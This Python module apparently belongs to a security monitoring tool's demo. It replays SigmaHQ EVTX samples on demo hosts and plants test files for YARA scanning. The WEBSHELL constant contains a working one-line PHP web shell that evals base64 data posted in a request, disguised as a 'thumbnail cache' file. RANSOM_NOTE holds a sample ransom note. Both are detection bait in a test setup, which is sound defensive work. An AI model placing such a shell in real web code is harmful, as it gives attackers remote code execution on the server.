"""Demo attack traces from real data: SigmaHQ's EVTX samples replayed on demo hosts, and files
with planted malware strings for YARA.

The Sigma part needs SigmaHQ's reference data (rules and `regression_data`), looked up in the
folder named by the environment variable VIGIL_SHARED_DATA, else in `shared/data` beside the
repository (`<repo>/../shared/data`, as the tests find it). Without it that part is skipped with
one log line and the rest of the demo still runs. A handful of samples, chosen from the seed, have
their rules registered as the rule set `sigmahq-demo`, their hosts (the `Computer` of the events)
placed in demo units, and their EVTX files ingested as they are (as collected logs: those hosts
are no live sensors); each rule must then fire on its sample's host. The YARA part writes a few
ordinary files and two planted ones (a PHP web shell, a ransom note) under
`<data>/demo/files/<unit>/` and scans them with the demo rules of `vigil/monitor/rules/demo_yara`.
"""

from __future__ import annotations

import json
import logging
import os
import random
import re
import shutil
from collections import defaultdict
from dataclasses import dataclass
from pathlib import Path

import yaml

import vigil
from vigil.plugins import DemoContext

log = logging.getLogger(__name__)

SHARED_DATA_ENV = "VIGIL_SHARED_DATA"
REPLAY_RULESET = "sigmahq-demo"
REPLAY_SAMPLES = 8
#: SigmaHQ's rule folders, in the layout `regression_data` mirrors.
RULE_FOLDERS = ("rules", "rules-emerging-threats", "rules-threat-hunting")
DEMO_YARA = Path(__file__).parents[1] / "rules" / "demo_yara"
#: The namespace of DEMO_YARA's rule file, as the YARA scan names it (the file's stem).
YARA_NAMESPACE = "vigil_demo"
WEBSHELL_RULE = "Demo_Webshell_PHP_Eval_Request"
RANSOM_NOTE_RULE = "Demo_Ransom_Note_Text"
_RULE_ID = re.compile(r"^id: *['\"]?([0-9a-fA-F-]{36})", re.M)


@dataclass(frozen=True)
class ReplaySample:
    """One SigmaHQ regression sample: the rule it proves and the EVTX file it proves it on."""

    rule_id: str
    title: str
    evtx: Path
    #: Where the rule sits if SigmaHQ's layout holds (regression_data mirrors the rule folders).
    rule_hint: Path
    #: The `Computer` of the sample's events: the host the finding names.
    host: str


def shared_data_dir() -> Path | None:
    """SigmaHQ's reference data: $VIGIL_SHARED_DATA, else `shared/data` beside the repository."""
    named = os.environ.get(SHARED_DATA_ENV)
    path = Path(named) if named else Path(vigil.__file__).resolve().parents[3] / "shared" / "data"
    return path if path.is_dir() else None


def _first_computer(path: Path) -> str | None:
    """The host of the first event in the JSON export beside an EVTX sample."""
    try:
        text = path.read_text("utf-8")
        event, _end = json.JSONDecoder().raw_decode(text.lstrip())
    except (OSError, ValueError):
        return None
    computer = event.get("Event", {}).get("System", {}).get("Computer")
    return computer if isinstance(computer, str) and computer else None


def read_samples(sigma: Path) -> list[ReplaySample]:
    """Every EVTX regression sample under `sigma/regression_data` whose host can be read."""
    regression = sigma / "regression_data"
    samples: list[ReplaySample] = []
    for info in sorted(regression.rglob("info.yml")):
        try:
            meta = yaml.safe_load(info.read_text("utf-8"))
            rule = meta["rule_metadata"][0]
            test = meta["regression_tests_info"][0]
        except (OSError, yaml.YAMLError, KeyError, IndexError, TypeError) as e:
            log.warning("demo replay: %s is not a usable regression sample (%s)", info, e)
            continue
        if test.get("type") != "evtx":
            continue
        evtx = sigma / str(test["path"])
        host = _first_computer(evtx.with_suffix(".json"))
        if host is None or not evtx.is_file():
            log.warning("demo replay: %s has no readable EVTX sample with a host", info)
            continue
        hint = (sigma / info.parent.relative_to(regression)).with_suffix(".yml")
        samples.append(ReplaySample(str(rule["id"]), str(rule.get("title", "")), evtx, hint, host))
    return samples


def pick_samples(
    samples: list[ReplaySample], seed: int, count: int = REPLAY_SAMPLES
) -> list[ReplaySample]:
    """`count` samples fixed by `seed`, spread over as many hosts as there are.

    Most samples come from two lab machines; taking one host at a time keeps the demo from
    being one host's story.
    """
    rng = random.Random(seed * 11 + 5)
    by_host: dict[str, list[ReplaySample]] = defaultdict(list)
    for sample in sorted(samples, key=lambda s: (s.host, s.rule_id, str(s.evtx))):
        by_host[sample.host].append(sample)
    hosts = sorted(by_host)
    rng.shuffle(hosts)
    for host in hosts:
        rng.shuffle(by_host[host])
    picked: list[ReplaySample] = []
    while len(picked) < count and any(by_host.values()):
        for host in hosts:
            if by_host[host] and len(picked) < count:
                picked.append(by_host[host].pop())
    return picked


def _rule_id_of(path: Path) -> str | None:
    found = _RULE_ID.search(path.read_text("utf-8"))
    return found.group(1) if found else None


def find_rule_files(sigma: Path, samples: list[ReplaySample]) -> dict[str, Path]:
    """Rule id -> file: where the sample's folder says, else by the `id:` line of each rule."""
    found = {s.rule_id: s.rule_hint for s in samples if s.rule_hint.is_file()}
    found = {rid: path for rid, path in found.items() if _rule_id_of(path) == rid}
    missing = {s.rule_id for s in samples} - set(found)
    for folder in RULE_FOLDERS:
        if not missing:
            break
        for path in sorted((sigma / folder).rglob("*.yml")):
            rule_id = _rule_id_of(path)
            if rule_id in missing:
                found[rule_id] = path
                missing.discard(rule_id)
                if not missing:
                    break
    return found


def replay_sigma_samples(ctx: DemoContext, units: list[str]) -> int:
    """Replay a few SigmaHQ samples on hosts placed in `units`; returns how many were planted."""
    from vigil.monitor.detect.sigma.ruleset import add_rule_set
    from vigil.monitor.detect.sigma.scan import scan_all
    from vigil.monitor.ingest.hosts import set_host_unit
    from vigil.monitor.ingest.pipeline import ingest_files

    shared = shared_data_dir()
    sigma = shared / "sigma" if shared else None
    if sigma is None or not (sigma / "regression_data").is_dir():
        log.info(
            "demo replay skipped: no SigmaHQ reference data (set %s or add ../shared/data)",
            SHARED_DATA_ENV,
        )
        return 0
    deployment = ctx.deployment
    actor = deployment.system("demo")
    picked = pick_samples(read_samples(sigma), ctx.seed)
    rule_files = find_rule_files(sigma, picked)
    picked = [s for s in picked if s.rule_id in rule_files]
    if not picked:
        log.info("demo replay skipped: no regression sample with its rule in %s", sigma)
        return 0

    root = deployment.settings.data / "demo" / "replay"
    rules_dir, logs_dir = root / "rules", root / "evtx"
    shutil.rmtree(root, ignore_errors=True)
    rules_dir.mkdir(parents=True)
    logs_dir.mkdir(parents=True)
    for sample in picked:
        path = rule_files[sample.rule_id]
        shutil.copyfile(path, rules_dir / path.name)
        shutil.copyfile(sample.evtx, logs_dir / sample.evtx.name)
    hosts = list(dict.fromkeys(s.host for s in picked))
    unit_of = {host: units[i % len(units)] for i, host in enumerate(hosts)}
    with deployment.store.session() as session:
        add_rule_set(session, actor, rules_dir, REPLAY_RULESET)
        for host in hosts:
            set_host_unit(session, actor, deployment.units, host, unit_of[host])
    # The samples were recorded on SigmaHQ's lab machines months ago: collected logs, whose hosts
    # must not count as demo sensors that fell silent.
    ingest_files(deployment, actor, [logs_dir], source="evtx", workers=1, collected=True)
    scan_all(deployment, actor)
    for s in picked:
        ctx.plant(
            "monitor", s.rule_id, s.host, unit_of[s.host], f"SigmaHQ sample replayed: {s.title}"
        )
    return len(picked)


#: Files any office share holds; none of them may match a demo rule.
ORDINARY_FILES = {
    "bien-ban-hop-ban-bau-cu.txt": (
        "BIÊN BẢN HỌP BAN BẦU CỬ\n"
        "Thời gian: 08:00 ngày 10/02/2026. Thành phần: trưởng ban, phó ban, thư ký.\n"
        "Nội dung: rà soát danh sách cử tri, phân công trực tại các điểm bỏ phiếu.\n"
    ),
    "sao-luu-du-lieu.ps1": (
        "# Nightly copy of the voter list share to the backup disk\n"
        "$source = 'D:\\DanhSachCuTri'\n"
        "$target = 'E:\\SaoLuu\\' + (Get-Date -Format 'yyyyMMdd')\n"
        "Copy-Item -Path $source -Destination $target -Recurse\n"
    ),
    "lien-he.php": (
        "<?php\n"
        "$name = htmlspecialchars($_POST['ho_ten'] ?? '', ENT_QUOTES);\n"
        "$message = htmlspecialchars($_POST['noi_dung'] ?? '', ENT_QUOTES);\n"
        'echo "<p>Cảm ơn {$name}, chúng tôi đã nhận ý kiến của bạn.</p>";\n'
    ),
}
WEBSHELL = (
    "anh-dai-dien.php",
    "<?php\n"
    "// thumbnail cache\n"
    "if (isset($_POST['k'])) { @eval(base64_decode($_POST['k'])); }\n"
    "?>\n",
)
RANSOM_NOTE = (
    "DOC-KY-DE-KHOI-PHUC.txt",
    "!!! ATTENTION !!!\n"
    "All your files have been encrypted with a strong algorithm and renamed to *.vgl.\n"
    "To decrypt them you need our private key. Pay 0.5 Bitcoin to the wallet below\n"
    "and write to the support chat at http://restorekeyqx7vgl.onion with your ID.\n"
    "Do not rename the files or try to decrypt them yourself: they will be lost.\n",
)


def plant_malware_files(ctx: DemoContext, units: list[str]) -> int:
    """Ordinary files in each unit's share and two planted ones; returns how many were planted."""
    from vigil.monitor.detect.yara.run import run_scan

    deployment = ctx.deployment
    actor = deployment.system("demo")
    root = deployment.settings.data / "demo" / "files"
    shutil.rmtree(root, ignore_errors=True)
    web_unit, office_unit = units[0], units[min(1, len(units) - 1)]
    planted = [
        (web_unit, "web", WEBSHELL, WEBSHELL_RULE, "a PHP web shell evaluates request data"),
        (office_unit, "", RANSOM_NOTE, RANSOM_NOTE_RULE, "a ransom note on the office share"),
    ]
    scanned = list(dict.fromkeys([web_unit, office_unit]))
    for unit in scanned:
        folder = root / unit
        folder.mkdir(parents=True, exist_ok=True)
        for name, text in ORDINARY_FILES.items():
            (folder / name).write_text(text, encoding="utf-8")
    for unit, sub, (name, text), rule, note in planted:
        path = root / unit / sub / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        # The finding names host:absolute path; the truth names the file alone (one of the
        # subject's parts, as the demo summary matches them) so the same seed plants the same
        # bytes whatever the data directory.
        ctx.plant("monitor", f"yara:{YARA_NAMESPACE}:{rule}", name, unit, f"{note} ({name})")
    for unit in scanned:
        run_scan(
            deployment,
            actor,
            [root / unit],
            unit=unit,
            rules=[DEMO_YARA],
            host=_file_host(unit),
            indicators=False,
        )
    return len(planted)


def _file_host(unit: str) -> str:
    """The unit's first demo workstation (as demo.build_demo names hosts) holds its share."""
    return f"{unit.lower()}-pc01"
